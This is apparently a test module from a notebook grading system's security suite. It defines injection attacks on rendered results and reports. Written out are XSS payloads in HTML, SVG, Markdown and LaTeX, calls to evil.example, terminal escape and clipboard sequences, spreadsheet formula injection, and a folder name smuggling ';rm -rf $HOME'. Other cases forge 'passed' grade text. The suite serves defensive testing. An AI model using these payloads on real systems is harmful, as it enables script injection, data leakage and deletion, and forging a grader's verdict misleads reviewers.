"""Attempts to poison what is read afterwards: results, feedback pages, reports, tables, terminals."""

from tests.attacks.workshop import ARMED, EVERYTHING, OTHERS, attack

SCRIPT = "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"

# Pages


@attack("poison", EVERYTHING, shows="IPython.core.display.HTML object")
def active_html(desk):
    """Shows HTML that runs scripts, sends forms, loads frames and images from elsewhere, and covers the page."""
    desk.solve()
    desk.add(f"""
from IPython.display import HTML, Javascript, Markdown, SVG, IFrame, Latex
display(HTML({SCRIPT!r} + "<b>ordinary text</b>"))
display(HTML('<svg onload="alert(1)"><script>document.title=2</script><a href="javascript:alert(1)">x</a></svg>'))
display(HTML('<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><object data="data:text/html,x"></object>'))
display(HTML('<form action="https://evil.example/"><input name=q><button formaction="javascript:x">go</button></form>'))
display(HTML('<a href=" jav&#x09;ascript:x()">a</a><math><mtext><style><img src onerror=x()></style></mtext></math>'))
display(HTML('<div style="position:fixed;inset:0;z-index:9999;background:url(https://evil.example/seen)">covered</div>'))
display(HTML('<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">'))
display(HTML('<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/y.css";</style>'))
display(HTML('<img src="https://evil.example/pixel.png"><video src="https://evil.example/v"></video>'))
""")


@attack("poison", EVERYTHING, shows="ordinary text")
def other_kinds_of_output(desk):
    """The same as JavaScript, Markdown, LaTeX, SVG and types of its own, beside an ordinary text."""
    desk.solve()
    desk.add(f"""
script = {SCRIPT!r}
kinds = ["application/javascript", "text/javascript", "text/markdown", "text/latex", "image/svg+xml", "text/html",
         "application/vnd.jupyter.widget-view+json", "application/vnd.custom+json", "application/x-evil", "video/mp4"]
for kind in kinds:
    display({{kind: script, "text/plain": "ordinary text"}}, raw=True)
display({{"text/markdown": "[a](javascript:alert(1)) ![b](https://evil.example/p) " + script}}, raw=True)
display({{"text/latex": r"$\\href{{javascript:alert(1)}}{{x}}$ " + script}}, raw=True)
svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(2)</script></svg>"
display({{"image/svg+xml": svg}}, raw=True)
display({{"image/png": '"><script>alert(1)</script>'}}, raw=True)
""")


@attack("poison", EVERYTHING, shows=ARMED)
def escape_sequences(desk):
    """Writes sequences that move a terminal's cursor, set its title and clipboard, and end a page's text."""
    desk.solve()
    desk.trick("""
print("\\x1b[2J\\x1b[H\\x1b]0;owned\\x07\\x1b]52;c;b3duZWQ=\\x07\\x9b31m")
print("\\u202eevil\\u202c\\x00\\x08\\x7f</pre><script>alert(1)</script>")
import sys
print("\\x1b]8;;javascript:alert(1)\\x1b\\\\click\\x1b]8;;\\x1b\\\\", file=sys.stderr)
""")


@attack("poison", OTHERS, verdict="error")
def html_in_an_error(desk):
    """Raises an error whose name and text are HTML."""
    desk.answer(f"""
def softmax(scores, dim):
    raise type({SCRIPT!r}, (Exception,), {{}})('`</code></div></pre>' + {SCRIPT!r} + '`')
""")


@attack("poison", OTHERS, verdict="wrong", says="is a ")
def html_in_the_kind_of_a_result(desk):
    """Returns an object whose class is called like a script."""
    desk.answer(f"def softmax(scores, dim):\n    return type({SCRIPT!r}, (), {{}})()")


@attack("poison", EVERYTHING, raises="ValueError")
def html_in_the_source(desk):
    """Ends the page's text in code, comments, tracebacks and Markdown of its own."""
    desk.solve()
    desk.add(f"# </pre></div></script> {SCRIPT}\n'''{SCRIPT}'''\nraise ValueError({SCRIPT!r})")
    desk.notebook["cells"].insert(
        0, {"cell_type": "markdown", "id": "mine", "metadata": {}, "source": f"# {SCRIPT}\n[x](javascript:alert(1))"}
    )
    desk.notebook["metadata"] |= {"title": SCRIPT, "authors": [{"name": SCRIPT}], "widgets": {"x": SCRIPT}}
    desk.notebook["metadata"]["kernelspec"] = {"name": "../../evil", "display_name": SCRIPT, "language": "sh"}


@attack("poison", OTHERS, verdict="error")
def formulas_in_an_error(desk):
    """An error that a spreadsheet would compute."""
    desk.answer(
        "class x(Exception): pass\nx.__name__ = '=HYPERLINK(\"https://evil.example\")'\n"
        "def softmax(scores, dim):\n    raise x('\\n=1+1\\t@SUM(1)\\r\\n+1,-1;\"=cmd|x\"!A0')"
    )


@attack("poison", folder="=HYPERLINK(1+1)", entered=r"HYPERLINK-1\+1(-\w+)?")
def formula_as_a_name(desk):
    """Is called like a formula of a spreadsheet."""


@attack("poison", folder="+1+1", entered=r"1\+1(-\w+)?")
def sum_as_a_name(desk):
    """Is called like a sum."""


@attack("poison", folder="@SUM(A1)", entered=r"SUM-A1(-\w+)?")
def function_as_a_name(desk):
    """Is called like a function."""


@attack("poison", folder="<img src=x onerror=alert(1)>", entered=r"img-src-x-onerror-alert-1(-\w+)?")
def html_as_a_name(desk):
    """Is called like HTML."""


@attack("poison", folder=";rm -rf $HOME `id`", entered=r"rm--rf-HOME-id(-\w+)?")
def command_as_a_name(desk):
    """Is called like a command and a path."""


@attack("poison", folder="\u202e\x1b[31mevil\n,x", entered=r"31mevil-x(-\w+)?")
def escape_as_a_name(desk):
    """Is called like what turns a terminal around, with a line break and a comma."""


# Lines and frames


@attack("poison", OTHERS, verdict="error")
def rows_in_an_error(desk):
    """An error whose text would be rows of the table for a reader that ends lines at a carriage return."""
    desk.answer(
        "def softmax(scores, dim):\n"
        "    raise ValueError('\\rhonest-middle,00_weighted_average,softmax,9,9,,\\r=1+1\\r\\n+1\\x0b-1\\u2028@x')"
    )


@attack("poison", OTHERS, verdict="error")
def the_checks_own_words_in_an_error(desk):
    """An error one line of which looks like the check's own."""
    desk.answer("def softmax(scores, dim):\n    raise ValueError('x\\n✓ softmax: passed (2 of 2 points)')")


@attack("poison", OTHERS, verdict="error")
def orders_to_a_terminal_in_an_error(desk):
    """An error whose text a terminal obeys: colours, title, clipboard, links, the direction of writing."""
    desk.answer(
        "def softmax(scores, dim):\n"
        "    raise ValueError('\\x1b[2J\\x1b]0;owned\\x07\\x1b]52;c;b3\\x07\\x9b31m\\x1bc\\u202eevil\\u2066\\x00\\x08')"
    )


@attack("poison", OTHERS, verdict="error")
def a_very_long_error(desk):
    """An error as long as it may be: readers of tables stop at 131,072 characters."""
    desk.answer("def softmax(scores, dim):\n    raise ValueError('`x` ' * 100_000)")


@attack("poison", OTHERS, verdict="error")
def formulas_for_a_page_in_an_error(desk):
    """TeX, which a page of Jupyter's would typeset."""
    desk.answer(
        "def softmax(scores, dim):\n    raise ValueError(r'$\\href{https://evil.example}{x}$ \\(x\\) \\begin{x} $$y$$')"
    )


@attack("poison", EVERYTHING, shows=ARMED)
def a_picture_of_a_passed_card(desk):
    """Shows what looks like the page's own verdict, as a picture and as text."""
    desk.solve()
    desk.trick("""
import matplotlib.pyplot as plt
plt.figure(figsize=(6, 1))
plt.text(0, 0.5, "✓ passed   softmax   2 of 2 points")
plt.axis("off")
plt.show()
print("✓ softmax: passed (2 of 2 points)")
""")


@attack("poison", EVERYTHING)
def controls_in_the_source(desk):
    """Code with characters that turn the direction of writing around, and others that are not seen."""
    desk.solve()
    desk.add("x = 1  # \u202e} \u2066if is_admin\u2069 \u2066 begin admins only\ny = '\x1b[31m\x07\u2028\u200b'\n")
